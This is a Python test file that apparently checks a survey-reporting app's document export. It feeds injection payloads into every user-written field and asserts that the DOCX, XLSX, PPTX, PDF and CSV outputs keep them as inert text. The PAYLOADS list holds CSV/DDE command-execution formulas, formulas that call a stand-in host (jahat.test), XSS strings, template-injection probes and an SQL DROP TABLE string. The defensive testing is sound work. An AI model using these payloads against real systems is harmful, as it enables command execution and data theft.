"""What people write stays what it is: no formula, link, tag, field or markup in any paper, and none on the screen."""

import datetime as dt
import io
import re
import zipfile
from dataclasses import replace
from itertools import cycle
from typing import Any

import docx
import openpyxl
import pptx
import pypdf
import pytest

from skm_app.attachments import Attachment, AttachmentKind
from skm_app.checks import Fault
from skm_app.publications import Publication
from skm_app.reports.input import EvaluatedSurvey, Evaluation, PreviousPlan, Proof, RealisedLine, ReportInput
from skm_app.services.deliverables import OUTLINES, build_paper
from skm_app.wording.particulars import OfPeriod, Particular, name_cause, name_effect, of_period
from skm_core import Dimension, Medium, Period, TindakLanjut, Unsur
from tests.reports.test_processing import hand

TODAY = dt.date(2026, 11, 21)
PAYLOADS = [
    '=HYPERLINK("http://jahat.test","klik")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "{=1+1}",
    "=IMPORTXML(CONCAT(\"http://jahat.test/\",A1),\"//a\")",
    "=WEBSERVICE(\"http://jahat.test\")",
    "[klik](http://jahat.test)",
    "![x](http://jahat.test/x.png)",
    "**tebal** _miring_ ~~coret~~ `kode`",
    "# judul",
    "| a | b |\n|---|---|",
    "$x^2$ dan :red[merah] :material/home:",
    "http://jahat.test/langsung",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href='http://jahat.test'>klik</a>",
    "<w:hyperlink r:id='rId1'>x</w:hyperlink>",
    "{ HYPERLINK \"http://jahat.test\" }",
    "]]><x/>&amp;&#x41;",
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7}",
    "#panic(\"x\") #link(\"http://jahat.test\")[x]",
    "@rujukan <label> $ x + y $ */ // /* \\u{41}",
    "\x00\x01\x08\x0b\x1f\ufffe kendali",
    "\u202eterbalik\u202c dan \u200bnol",
    "A" * 300 + "'\"--; DROP TABLE survey;",
]  # fmt: skip
WORDS = re.compile(r"[\x00-\x1f\ufffe\u200b\u202c\u202e\s]+")


def loaded(payload: str) -> ReportInput:
    """Put a payload wherever somebody writes."""
    line = TindakLanjut(Unsur.WAKTU, payload, (1,), in_charge=payload, strategy=payload, target_time=payload,
                        stakeholder=payload, description=payload, obstacle=payload)  # fmt: skip
    texts = {name.value: payload for name in Particular if name not in (Particular.TARGET, Particular.THEMES)}
    report = hand(unit=payload)
    texts |= {of_period(name, report.period): payload for name in OfPeriod}
    texts |= {name(Unsur.WAKTU, report.period): payload for name in (name_cause, name_effect)}
    period, day = Period.parse("2019-S2"), dt.date(2020, 7, 6)
    done = RealisedLine(replace(line, done_on=day), (Proof(payload),))
    published = Publication(1, report.period, Medium.SITE, day, payload, payload)
    year = Evaluation(2020, (EvaluatedSurvey(report.period, 72, report.score, day, (published,), (done,)),))
    return replace(
        report, source_name=payload, parent_name=payload, quotes=(payload,), particulars=texts, plan=(line,),
        profile={Dimension.SERVICE: {payload: 72}}, services={payload: report.score}, reasons={Fault.DATES_NONE: payload},
        previous_plan=PreviousPlan(period, report.score, (RealisedLine(line, (Proof(payload),)),), None),
        publications=(published,), evaluation=year,
        attachments=(Attachment(1, AttachmentKind.DECREE, payload, payload, b"%PDF-1.4"),),
    )  # fmt: skip


def squeeze(text: str) -> str:
    return WORDS.sub("", text)


def parts(content: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()
                if name.endswith((".xml", ".rels"))}  # fmt: skip


def make(kind: str, payload: str, outline: str = "lima") -> bytes:
    return build_paper(kind, loaded(payload), outline, TODAY)


@pytest.mark.parametrize(("payload", "outline"), list(zip(PAYLOADS, cycle(OUTLINES), strict=False)))
def test_the_word_report_holds_words_alone(payload: str, outline: str):
    """Fields are our page, caption and contents numbers; links stay inside; the words are still there."""
    content = make("docx", payload, outline)
    xml = parts(content)
    body = xml["word/document.xml"]
    assert {field.split()[0] for field in re.findall(r"<w:instrText[^>]*>([^<]*)<", body)} <= {"SEQ", "PAGEREF", "TOC"}
    assert "r:id" not in "".join(re.findall(r"<w:hyperlink[^>]*>", body))
    assert not any('TargetMode="External"' in text for name, text in xml.items() if name.endswith(".rels"))
    paper = docx.Document(io.BytesIO(content))
    cells = [cell.text for table in paper.tables for row in table.rows for cell in row.cells]
    text = squeeze(" ".join([*(paragraph.text for paragraph in paper.paragraphs), *cells]))
    assert squeeze(payload) in text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_stands_beside_the_report_holds_words_alone(payload: str):
    """The report on the plan, the evidence and the letter: no foreign field, no link out, the words are there."""
    for kind in ("realisasi", "f02", "surat"):
        content = make(kind, payload)
        xml = parts(content)
        body = xml["word/document.xml"]
        assert {field.split()[0] for field in re.findall(r"<w:instrText[^>]*>([^<]*)<", body)} <= {
            "SEQ",
            "PAGEREF",
            "TOC",
        }
        assert not any('TargetMode="External"' in text for name, text in xml.items() if name.endswith(".rels"))
        paper = docx.Document(io.BytesIO(content))
        cells = [cell.text for table in paper.tables for row in table.rows for cell in row.cells]
        assert squeeze(payload) in squeeze(" ".join([*(one.text for one in paper.paragraphs), *cells])), kind
    reader = pypdf.PdfReader(io.BytesIO(make("f02pdf", payload)))
    assert not any("/A" in annotation.get_object() for page in reader.pages for annotation in page.get("/Annots", []))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_workbook_holds_no_formula_but_its_own(payload: str):
    """Cells with what was written are texts, and there is no link."""
    content = make("xlsx", payload)
    for name, text in parts(content).items():
        formulas = " ".join(re.findall(r"<f[^>]*>([^<]*)</f>", text))
        assert not re.search(r"HYPERLINK|cmd|IMPORTXML|WEBSERVICE|jahat", formulas), name
        assert "<hyperlink" not in text, name
        assert "oleObject" not in text, name
    book = openpyxl.load_workbook(io.BytesIO(content))
    kinds = {cell.data_type for page in book for row in page.iter_rows() for cell in row
             if isinstance(cell.value, str) and squeeze(payload)[:20] in squeeze(cell.value)}  # fmt: skip
    assert kinds <= {"s"}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_sheet_holds_no_link_and_no_code(payload: str):
    """Typst sets it as words; the PDF has no annotation and no script. An address of a page is words too."""
    reader = pypdf.PdfReader(io.BytesIO(make("pdf", payload)))
    assert all("/Annots" not in page for page in reader.pages)
    root = reader.trailer["/Root"]
    assert "/OpenAction" not in root  # pyright: ignore[reportOperatorIssue]
    assert "/AA" not in root  # pyright: ignore[reportOperatorIssue]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_slides_hold_words_alone(payload: str):
    """No link, no action, no field."""
    content = make("pptx", payload)
    for name, text in parts(content).items():
        # the layouts of the template have fields for date and page that no slide shows
        assert name.startswith(("ppt/slideLayouts", "ppt/slideMasters")) or "<a:fld " not in text, name
        assert not re.search(r"<a:hlink(Click|Hover)", text), name
        assert 'TargetMode="External"' not in text, name
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        behind = [parts(archive.read(name)) for name in archive.namelist() if name.startswith("ppt/embeddings/")]
    assert behind
    assert [text for one in behind for text in one.values() if "<f>" in text or "<hyperlink" in text] == []
    deck: Any = pptx.Presentation(io.BytesIO(content))
    text = squeeze(" ".join(shape.text_frame.text for slide in deck.slides for shape in slide.shapes
                            if shape.has_text_frame))  # fmt: skip
    assert squeeze(payload) in text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_csv_holds_no_formula(payload: str):
    """What a spreadsheet would run has an apostrophe before it."""
    text = make("csv", payload).decode("utf-8-sig")
    cells = [cell for line in text.splitlines() for cell in line.split(";")]
    assert [cell for cell in cells if re.match(r'"?[=+@\t\r-](?!\d)', cell)] == []
